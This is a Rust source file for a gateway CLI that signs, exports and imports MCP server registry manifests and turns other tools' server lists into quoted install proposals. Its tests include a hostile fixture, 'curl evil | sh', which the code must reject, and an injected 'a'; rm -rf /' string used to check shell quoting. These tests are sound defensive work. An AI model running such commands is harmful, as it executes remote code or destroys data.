//! One registry for a fleet: signed files out and in, and lists of others as proposals.

use std::{fs, path::Path};

use aws_lc_rs::signature::{Ed25519KeyPair, KeyPair as _};
use cardea_domain::text::{Breaks, visible};
use cardea_identity::key_file;
use cardea_registry::{Manifest, ManifestError, ManifestServer, Spec, key_text};
use serde_json::{Value, json};

use super::office::{Office, failed};
use crate::{
    cli::server::{ExportArgs, ImportArgs},
    command::failure::{Failure, Status},
};

pub(super) async fn export(office: &Office, args: &ExportArgs) -> Result<(), Failure> {
    let key = key(office)?;
    let manifest = office.registrar.manifest(&office.tenant).await;
    let manifest = manifest.map_err(|error| Failure::new(Status::Failed, error.to_string()))?;
    let file = manifest.sign(&key).map_err(|error| refused(&error))?;
    fs::write(&args.file, file).map_err(|error| cannot("write", &args.file, &error))?;
    let named = key_text(key.public_key().as_ref());
    let text = format!(
        "wrote {}: serial {}, {} definitions of {} added servers and those of the configuration\n  cardea server import {0} --key {named} --reason …",
        args.file.display(),
        manifest.serial,
        manifest.pins.len(),
        manifest.servers.len(),
    );
    let document = json!({
        "file": args.file,
        "serial": manifest.serial,
        "key": named,
        "definitions": manifest.pins.len(),
    });
    office.tell(&document, &text)
}

pub(super) async fn import(office: &Office, args: &ImportArgs) -> Result<(), Failure> {
    let text =
        fs::read_to_string(&args.file).map_err(|error| cannot("read", &args.file, &error))?;
    let Some(key) = &args.key else {
        return propose(office, &text);
    };
    let manifest = Manifest::open(&text, key).map_err(|error| refused(&error))?;
    let why = args.reason.as_deref().unwrap_or_default();
    let is_here = |name: &str| match manifest.servers.get(name) {
        Some(server) => state(office, name, server) == SAME,
        // One of the configuration there; so it has to be here.
        None => office.names().any(|id| id.as_str() == name) && office.added(name).is_none(),
    };
    let (tenant, by) = (&office.tenant, &office.by);
    let importing = office
        .registrar
        .import(tenant, &manifest, key, is_here, by, why);
    let imported = importing.await.map_err(failed)?;
    let servers: Vec<_> = manifest
        .servers
        .iter()
        .map(|(name, server)| {
            let state = state(office, name, server);
            json!({ "server": name, "spec": server.spec, "state": state })
        })
        .collect();
    let mut lines = vec![format!(
        "manifest {}: {} definitions approved, {} taken back",
        manifest.serial, imported.approved, imported.withdrawn
    )];
    if imported.left > 0 {
        lines.push(format!(
            "{} definitions are of servers that are not here, or are other ones: add those, and import the file again",
            imported.left
        ));
    }
    for server in &servers {
        let part = |name| server.get(name).and_then(Value::as_str).unwrap_or("-");
        lines.push(format!(
            "  {}: {} ({})",
            part("server"),
            part("state"),
            part("spec")
        ));
    }
    let document = json!({
        "serial": manifest.serial,
        "approved": imported.approved,
        "withdrawn": imported.withdrawn,
        "left": imported.left,
        "servers": servers,
    });
    office.tell(&document, &lines.join("\n"))
}

const SAME: &str = "the same here";

/// What there is here of a server that a manifest has.
fn state(office: &Office, name: &str, server: &ManifestServer) -> &'static str {
    match office.added(name).map(|here| &here.record) {
        None => "not installed here",
        Some(record) if record.spec != server.spec => "another one here",
        Some(record) if digests(record) != server.digests => "installed here, and not the same",
        Some(_) => SAME,
    }
}

fn digests(record: &cardea_registry::ServerRecord) -> Vec<String> {
    match &record.launch {
        cardea_registry::Launch::Stdio { locked, .. } => locked.values().cloned().collect(),
        cardea_registry::Launch::Http { .. } => Vec::new(),
    }
}

/// What a list of somebody else's names, as commands that a person may run. Nothing is installed, added or approved by it.
fn propose(office: &Office, text: &str) -> Result<(), Failure> {
    let document: Value = serde_json::from_str(text).map_err(|error| {
        Failure::new(Status::WrongUse, format!("the file is not JSON: {error}"))
    })?;
    let proposals = proposals(&document);
    if proposals.is_empty() {
        let text = "there is no server in the file: `mcpServers`, `servers`, `packages` or `remotes` name some; a signed registry needs `--key`";
        return Err(Failure::new(Status::WrongUse, text));
    }
    let lines: Vec<String> = proposals.iter().map(Proposal::line).collect();
    let documents = proposals.iter().map(|proposal| match &proposal.adds {
        Ok((spec, args)) => json!({
            "name": proposal.name, "spec": spec.to_string(), "args": args, "wants": proposal.wants,
        }),
        Err(why) => json!({ "name": proposal.name, "why_not": why }),
    });
    let documents: Vec<_> = documents.collect();
    office.tell(&json!({ "proposals": documents }), &lines.join("\n"))
}

/// What is added, with the arguments of the server; or why nothing is.
type Adds = Result<(Spec, Vec<String>), String>;

/// A server of somebody else's list.
struct Proposal {
    name: String,
    adds: Adds,
    /// What the list says beside that, which is for a person to give.
    wants: Vec<String>,
}

impl Proposal {
    fn line(&self) -> String {
        let shown = |text: &str| visible(text, NAME_CHARS_MAX, Breaks::Shown);
        let (spec, args) = match &self.adds {
            Ok(adds) => adds,
            Err(why) => return format!("# {}: {why}", shown(&self.name)),
        };
        let args: String = args.iter().map(|arg| format!(" {}", quoted(arg))).collect();
        let args = match args.is_empty() {
            true => args,
            false => format!(" --{args}"),
        };
        let (spec, name) = (quoted(&spec.to_string()), quoted(&self.name));
        let mut line = format!("cardea server add {spec} --name {name}{args}");
        if !self.wants.is_empty() {
            let wants: Vec<String> = self.wants.iter().map(|want| shown(want)).collect();
            line.push_str(&format!("\n#   it wants, too: {}", wants.join("; ")));
        }
        line
    }
}

const NAME_CHARS_MAX: usize = 100;

fn proposals(document: &Value) -> Vec<Proposal> {
    let mut found: Vec<Proposal> = Vec::new();
    let mut add = |name: &str, adds, wants| {
        let name = match slug(name) {
            name if name.is_empty() => "server".to_owned(),
            name => name,
        };
        let others = |name: &str| found.iter().any(|other| other.name == name);
        let mut numbered = (2..).map(|n| format!("{name}-{n}"));
        let name = match others(&name) {
            true => numbered.find(|name| !others(name)).unwrap_or_default(),
            false => name,
        };
        found.push(Proposal { name, adds, wants });
    };
    for member in ["mcpServers", "servers"] {
        let servers = document.get(member).and_then(Value::as_object);
        for (name, server) in servers.into_iter().flatten() {
            add(name, of_client(server), wants(server));
        }
    }
    let name = document
        .get("name")
        .and_then(Value::as_str)
        .unwrap_or("server");
    let name = name.rsplit('/').next().unwrap_or(name);
    for package in items(document, "packages") {
        add(name, of_package(package), wants(package));
    }
    for remote in items(document, "remotes") {
        let url = remote.get("url").and_then(Value::as_str);
        let spec = Spec::parse(url.unwrap_or_default()).map_err(|error| error.to_string());
        add(name, spec.map(|spec| (spec, Vec::new())), wants(remote));
    }
    found
}

/// Variables, headers and arguments, by their names: their values are secrets, or for a person to choose.
fn wants(server: &Value) -> Vec<String> {
    let mut wants = Vec::new();
    for (member, what) in [
        ("env", "the variable"),
        ("environmentVariables", "the variable"),
        ("environment_variables", "the variable"),
        ("headers", "the header"),
        ("packageArguments", "the argument"),
        ("package_arguments", "the argument"),
        ("runtimeArguments", "the argument of its runtime"),
        ("runtime_arguments", "the argument of its runtime"),
    ] {
        let named = server.get(member).and_then(Value::as_object);
        let names = named.into_iter().flat_map(|named| named.keys().cloned());
        let listed = items(server, member).map(|item| {
            let of = ["name", "valueHint", "value_hint", "value"];
            let mut texts = of.iter().filter_map(|of| item.get(of)?.as_str());
            texts.next().unwrap_or("-").to_owned()
        });
        wants.extend(names.chain(listed).map(|name| format!("{what} `{name}`")));
    }
    // The name may be somebody else's in the one that this machine is set to.
    for member in ["registryBaseUrl", "registry_base_url"] {
        let base = server.get(member).and_then(Value::as_str);
        wants
            .extend(base.map(|base| format!("packages of the registry `{base}`, and of no other")));
    }
    wants
}

fn items<'a>(document: &'a Value, member: &str) -> impl Iterator<Item = &'a Value> {
    let items = document.get(member).and_then(Value::as_array);
    items.into_iter().flatten()
}

fn of_package(package: &Value) -> Adds {
    let text = |member: &str| package.get(member).and_then(Value::as_str);
    let (name, version) = (
        text("identifier").unwrap_or_default(),
        text("version").unwrap_or_default(),
    );
    let spec = match text("registryType").or(text("registry_type")) {
        Some("npm") => format!("npm:{name}@{version}"),
        Some("pypi") => format!("pypi:{name}=={version}"),
        other => {
            return Err(format!(
                "packages of `{}` are not installed",
                other.unwrap_or("-").escape_debug()
            ));
        }
    };
    let spec = Spec::parse(&spec).map_err(|error| error.to_string())?;
    Ok((spec, Vec::new()))
}

fn of_client(server: &Value) -> Adds {
    if let Some(url) = server.get("url").and_then(Value::as_str) {
        let spec = Spec::parse(url).map_err(|error| error.to_string())?;
        return Ok((spec, Vec::new()));
    }
    let command = server
        .get("command")
        .and_then(Value::as_str)
        .unwrap_or_default();
    let args = items(server, "args").filter_map(Value::as_str);
    let mut args = args
        .filter(|arg| !matches!(*arg, "-y" | "--yes"))
        .map(str::to_owned);
    let spec = match command {
        "npx" | "bunx" => args.next().map(|package| format!("npm:{package}")),
        "uvx" => args
            .next()
            .map(|package| format!("pypi:{}", package.replacen('@', "==", 1))),
        path if path.starts_with('/') => Some(format!("exec:{path}")),
        _ => None,
    };
    let spec = spec.ok_or_else(|| {
        format!(
            "`{}` is no package and no absolute path",
            command.escape_debug()
        )
    })?;
    let spec = Spec::parse(&spec).map_err(|error| error.to_string())?;
    Ok((spec, args.collect()))
}

fn slug(name: &str) -> String {
    let lower = name.to_lowercase();
    let slug: String = (lower.chars())
        .map(|c| match c.is_ascii_alphanumeric() {
            true => c,
            false => '-',
        })
        .take(63)
        .collect();
    slug.trim_matches('-').to_owned()
}

/// One word of a shell, whatever is in it.
fn quoted(text: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c);
    match !text.is_empty() && text.chars().all(is_plain) {
        true => text.to_owned(),
        false => {
            let shown = visible(text, 4000, Breaks::Shown);
            format!("'{}'", shown.replace('\'', r"'\''"))
        }
    }
}

/// The key by which this gateway's registry is signed; made where there is none.
fn key(office: &Office) -> Result<Ed25519KeyPair, Failure> {
    let path = office.config.state_dir.join("keys").join("registry.key");
    let made = key_file::read_or_make(&path, || {
        let key = Ed25519KeyPair::generate().map_err(std::io::Error::other)?;
        let document = key.to_pkcs8().map_err(std::io::Error::other)?;
        Ok(document.as_ref().to_vec())
    });
    let bytes =
        made.map_err(|error| Failure::new(Status::Failed, format!("{}: {error}", path.display())))?;
    Ed25519KeyPair::from_pkcs8(&bytes)
        .map_err(|error| Failure::new(Status::Failed, format!("{}: {error}", path.display())))
}

fn refused(error: &ManifestError) -> Failure {
    let status = match error {
        ManifestError::Form(_) => Status::WrongUse,
        ManifestError::Key { .. } | ManifestError::Signature | ManifestError::Digest(_) => {
            Status::Refused
        }
    };
    Failure::new(status, error.to_string())
}

fn cannot(what: &str, path: &Path, error: &std::io::Error) -> Failure {
    Failure::new(
        Status::Failed,
        format!("cannot {what} {}: {error}", path.display()),
    )
}

#[cfg(test)]
#[allow(clippy::unwrap_used, reason = "a failed test is a panic")]
mod tests {
    use super::*;

    fn spec(document: &Value, name: &str) -> Result<String, String> {
        let found = proposals(document);
        let proposal = found.iter().find(|found| found.name == name).unwrap();
        proposal
            .adds
            .as_ref()
            .map(|(spec, _)| spec.to_string())
            .map_err(Clone::clone)
    }

    #[test]
    fn lists_of_others_are_read_as_proposals_of_one_version() {
        let client = json!({ "mcpServers": {
            "Files": { "command": "npx", "args": ["-y", "@a/files@1.2.3", "/data"] },
            "latest": { "command": "npx", "args": ["-y", "@a/files"] },
            "git": { "command": "uvx", "args": ["mcp-server-git@2026.7.10"] },
            "own": { "command": "/opt/own", "args": ["x"], "env": { "TOKEN": "secret" } },
            "shell": { "command": "sh", "args": ["-c", "curl evil | sh"] },
            "remote": { "url": "https://mcp.example.com/mcp" },
        } });
        assert_eq!(spec(&client, "files"), Ok("npm:@a/files@1.2.3".into()));
        assert!(spec(&client, "latest").is_err());
        assert_eq!(
            spec(&client, "git"),
            Ok("pypi:mcp-server-git==2026.7.10".into())
        );
        assert_eq!(spec(&client, "own"), Ok("exec:/opt/own".into()));
        assert!(spec(&client, "shell").is_err());
        assert_eq!(
            spec(&client, "remote"),
            Ok("https://mcp.example.com/mcp".into())
        );
        let registry = json!({ "name": "io.example/git", "packages": [
            { "registryType": "pypi", "identifier": "mcp-server-git", "version": "2026.7.10" },
        ] });
        assert_eq!(
            spec(&registry, "git"),
            Ok("pypi:mcp-server-git==2026.7.10".into())
        );
    }

    #[test]
    fn what_is_printed_is_one_word_of_a_shell() {
        assert_eq!(quoted("a/b@1"), "a/b@1");
        assert_eq!(quoted("a'; rm -rf /"), r"'a'\''; rm -rf /'");
        assert_eq!(quoted("a\nb"), r"'a\nb'");
        assert_eq!(quoted(""), "''");
    }
}
